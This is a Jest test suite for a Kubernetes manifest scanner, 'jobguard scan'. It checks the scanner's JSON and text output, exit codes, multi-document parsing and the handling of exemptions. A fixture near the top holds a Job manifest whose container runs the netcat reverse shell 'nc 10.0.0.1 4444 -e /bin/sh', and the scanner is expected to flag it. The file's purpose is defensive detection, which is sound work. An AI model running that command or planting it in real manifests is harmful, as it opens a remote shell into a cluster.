import { describe, expect, it } from '@jest/globals';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { main } from '../src/cli/index.js';
import { scan } from '../src/cli/scan.js';
import { PROFILES } from '../src/scoring/profiles.js';
import { fakeIo } from './fixtures/scan/fake-io.js';

const FIXTURES = path.resolve('test/fixtures/scan');

interface JsonOut {
  results: {
    source: string;
    document: number;
    line: number;
    kind: string;
    namespace: string;
    name: string;
    score: number;
    verdict: string;
    mode: string;
    action: string;
    exemptions: string[];
    findings: { rule: string; weight: number; message: string; path: string; detail?: string }[];
  }[];
  summary: Record<string, number>;
}

async function run(argv: string[], stdin?: string) {
  const io = fakeIo({ cwd: FIXTURES, ...(stdin === undefined ? {} : { stdin }) });
  const code = await scan(argv, io);
  return { code, out: io.out(), err: io.err() };
}

async function runJson(argv: string[], stdin?: string) {
  const { code, out, err } = await run(['--format', 'json', ...argv], stdin);
  return { code, err, json: JSON.parse(out) as JsonOut };
}

const REVERSE_SHELL = `apiVersion: batch/v1
kind: Job
metadata:
  name: from-stdin
spec:
  template:
    spec:
      containers:
        - name: c
          image: alpine
          args: ["nc 10.0.0.1 4444 -e /bin/sh"]
`;

describe('scan --format json (the JSON output contract)', () => {
  it('prints results and a summary with exactly the contract fields (plus line)', async () => {
    const { json } = await runJson(['--profile', 'kql', 'reverse-shell-cronjob.yaml']);
    expect(Object.keys(json)).toEqual(['results', 'summary']);
    expect(json.summary).toEqual({ objects: 1, skipped: 0, allow: 0, annotate: 0, warn: 0, deny: 1 });
    const [result] = json.results;
    expect(Object.keys(result!).sort()).toEqual(
      [
        'source',
        'document',
        'line',
        'apiVersion',
        'kind',
        'namespace',
        'name',
        'score',
        'verdict',
        'mode',
        'action',
        'exemptions',
        'findings',
      ].sort(),
    );
    expect(result).toMatchObject({
      source: 'reverse-shell-cronjob.yaml',
      document: 0,
      line: 2,
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      namespace: 'default',
      name: 'argus-test-cronjob',
      score: 5,
      verdict: 'deny',
      mode: 'warn',
      action: 'warn',
      exemptions: [],
    });
    expect(result!.findings.map((f) => f.rule).sort()).toEqual([
      'kql-host-path-mount',
      'kql-privileged',
      'kql-sensitive-mount',
      'kql-suspicious-command',
      'kql-suspicious-image',
    ]);
    for (const finding of result!.findings) {
      expect(Object.keys(finding).sort()).toEqual(
        finding.detail === undefined
          ? ['message', 'path', 'rule', 'weight']
          : ['detail', 'message', 'path', 'rule', 'weight'],
      );
    }
  });

  it('numbers multi-document files, skips documents without a pod template and defaults the namespace', async () => {
    const { json } = await runJson(['--profile', 'kql', 'multi.yaml']);
    expect(json.results.map((r) => [r.document, r.line, r.kind, r.namespace, r.name])).toEqual([
      [1, 8, 'Job', 'reports', 'report'],
      [2, 24, 'Deployment', 'default', 'web'],
    ]);
    expect(json.summary).toMatchObject({ objects: 2, skipped: 1, allow: 2 });
  });

  it('expands kind: List — each item takes one document index, at the item line', async () => {
    const { json } = await runJson(['--profile', 'kql', 'list.yaml']);
    expect(json.results.map((r) => [r.document, r.line, r.name, r.verdict])).toEqual([
      [0, 4, 'first', 'warn'],
      [2, 23, 'second', 'allow'],
    ]);
    expect(json.summary.skipped).toBe(1);
  });

  it('reads helm template output: # Source: comments and empty documents', async () => {
    const { json } = await runJson(['--profile', 'kql', 'helm-template.yaml']);
    expect(json.results).toHaveLength(1);
    expect(json.results[0]).toMatchObject({
      document: 1,
      line: 12,
      kind: 'CronJob',
      namespace: 'ops',
      name: 'backup',
    });
    expect(json.summary.skipped).toBe(1);
    const { out } = await run(['--profile', 'kql', 'helm-template.yaml']);
    expect(out).toContain('helm-template.yaml:12 (backup/templates/cronjob.yaml)');
  });

  it('reads kustomize build output (plain multi-document YAML, no comments)', async () => {
    const kustomized = [
      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: app',
      REVERSE_SHELL.replace('from-stdin', 'k'),
    ].join('\n---\n');
    const { json } = await runJson(['--profile', 'kql', '-'], kustomized);
    expect(json.results.map((r) => [r.document, r.line, r.name])).toEqual([[1, 6, 'k']]);
  });

  it('reads stdin with -', async () => {
    const { json, code } = await runJson(['--profile', 'kql', '--fail-on', 'warn', '-'], REVERSE_SHELL);
    expect(json.results[0]).toMatchObject({
      source: '<stdin>',
      name: 'from-stdin',
      line: 1,
      score: 2,
      verdict: 'warn',
    });
    expect(code).toBe(1);
  });

  it('walks folders recursively in sorted order, reading only .yaml/.yml/.json', async () => {
    const { json } = await runJson(['--profile', 'kql', 'folder']);
    expect(json.results.map((r) => r.source)).toEqual(['folder/a-job.yml', 'folder/nested/b-cronjob.json']);
  });

  it('reports a file that does not parse with its line, still scans the others, exits 2', async () => {
    const { json, err, code } = await runJson(['--profile', 'kql', 'broken.yaml', 'multi.yaml', 'list.yaml']);
    expect(err).toMatch(/^jobguard scan: broken\.yaml:\d+:\d+: /m);
    const line = Number(/broken\.yaml:(\d+):/.exec(err)![1]);
    expect(line).toBeGreaterThanOrEqual(10);
    expect(json.results.map((r) => r.source)).toEqual(['multi.yaml', 'multi.yaml', 'list.yaml', 'list.yaml']);
    expect(code).toBe(2);
  });

  it('reports a missing path and exits 2', async () => {
    const { err, code } = await run(['--profile', 'kql', 'nope.yaml', 'multi.yaml']);
    expect(err).toContain('nope.yaml: cannot read (ENOENT)');
    expect(code).toBe(2);
  });

  it('decodes YAML as kubectl does (YAML 1.1 booleans, timestamps kept as strings)', async () => {
    const doc = `apiVersion: batch/v1
kind: Job
metadata:
  name: yes-privileged
  annotations:
    when: 2024-01-02T03:04:05Z
spec:
  template:
    spec:
      containers:
        - name: c
          image: registry.example.com/x:1
          securityContext:
            privileged: yes
`;
    const dir = await mkdtemp(path.join(tmpdir(), 'jobguard-scan-'));
    await writeFile(path.join(dir, 'job.yaml'), doc);
    const io = fakeIo({ cwd: dir });
    await scan(['--profile', 'kql', '--format', 'json', 'job.yaml'], io);
    const json = JSON.parse(io.out()) as JsonOut;
    expect(json.results[0]!.findings.map((f) => f.rule)).toContain('kql-privileged');
  });

  it('applies --mode and threshold flags', async () => {
    const { json } = await runJson([
      '--profile',
      'kql',
      '--mode',
      'enforce',
      '--deny-threshold',
      '6',
      'reverse-shell-cronjob.yaml',
    ]);
    expect(json.results[0]).toMatchObject({ score: 5, verdict: 'warn', mode: 'enforce', action: 'warn' });
  });

  it('lists exemption reasons from a policy file', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'jobguard-scan-'));
    await writeFile(
      path.join(dir, 'policy.yaml'),
      'apiVersion: jobguard.dev/v1\nkind: Policy\nprofile: kql\nexemptions:\n  - reason: drill\n    namespaces: ["*"]\n    names: ["argus-*"]\n',
    );
    const io = fakeIo({ cwd: FIXTURES });
    await scan(
      ['--config', path.join(dir, 'policy.yaml'), '--format', 'json', 'reverse-shell-cronjob.yaml'],
      io,
    );
    const json = JSON.parse(io.out()) as JsonOut;
    expect(json.results[0]).toMatchObject({
      exemptions: ['drill'],
      score: 0,
      verdict: 'allow',
      findings: [],
    });
  });

  it('scores with the default profile too (structure only)', async () => {
    const { json } = await runJson(['reverse-shell-cronjob.yaml', 'multi.yaml']);
    expect(json.summary.objects).toBe(3);
    for (const r of json.results) {
      expect(['allow', 'annotate', 'warn', 'deny']).toContain(r.verdict);
      const ids = new Set(PROFILES.default.rules.map((rule) => rule.id));
      for (const f of r.findings) expect(ids.has(f.rule) || f.rule === 'engine-error').toBe(true);
    }
  });
});

describe('scan --fail-on and exit codes', () => {
  it.each([
    ['deny', 'reverse-shell-cronjob.yaml', 1],
    ['deny', 'folder', 0],
    ['warn', 'folder', 1],
    ['never', 'reverse-shell-cronjob.yaml', 0],
    ['warn', 'multi.yaml', 0],
  ])('--fail-on %s over %s exits %d', async (failOn, input, expected) => {
    const { code } = await run(['--profile', 'kql', '--fail-on', failOn, input]);
    expect(code).toBe(expected);
  });

  it('exits 2 on bad usage (through main, no stack trace)', async () => {
    for (const argv of [
      ['scan', '--format', 'xml', 'multi.yaml'],
      ['scan', '--fail-on', 'sometimes', 'multi.yaml'],
      ['scan', '--bogus'],
      ['scan'],
      ['scan', '--config', 'missing-policy.yaml', 'multi.yaml'],
    ]) {
      const io = fakeIo({ cwd: FIXTURES });
      expect(await main(argv, io)).toBe(2);
      expect(io.err()).toMatch(/^jobguard scan: /);
      expect(io.err()).not.toContain('    at ');
    }
  });

  it('prints help', async () => {
    const { out, code } = await run(['--help']);
    expect(code).toBe(0);
    expect(out).toContain('--fail-on');
  });
});

describe('scan --format text', () => {
  it('prints a row per object, findings under it and a summary line, without colour off a TTY', async () => {
    const { out } = await run(['--profile', 'kql', 'reverse-shell-cronjob.yaml', 'multi.yaml']);
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toMatch(
      /^deny\s+5\s+CronJob default\/argus-test-cronjob\s+reverse-shell-cronjob\.yaml:2\s+\[warn mode: warn\]$/,
    );
    expect(lines[1]).toMatch(/^\s+kql-\S+ \+1 /);
    expect(out).toMatch(/^allow\s+0\s+Job reports\/report\s+multi\.yaml:8$/m);
    expect(lines.at(-1)).toBe('3 objects scored, 1 skipped: 2 allow, 0 annotate, 0 warn, 1 deny');
    expect(out).not.toContain('\u001b[');
  });

  it('colours verdicts only when stdout is a TTY (and NO_COLOR is unset)', async () => {
    const tty = fakeIo({ cwd: FIXTURES, stdoutIsTTY: true });
    await scan(['--profile', 'kql', 'reverse-shell-cronjob.yaml'], tty);
    expect(tty.out()).toContain('\u001b[31mdeny');
    const noColour = fakeIo({ cwd: FIXTURES, stdoutIsTTY: true, env: { NO_COLOR: '1' } });
    await scan(['--profile', 'kql', 'reverse-shell-cronjob.yaml'], noColour);
    expect(noColour.out()).not.toContain('\u001b[');
  });
});
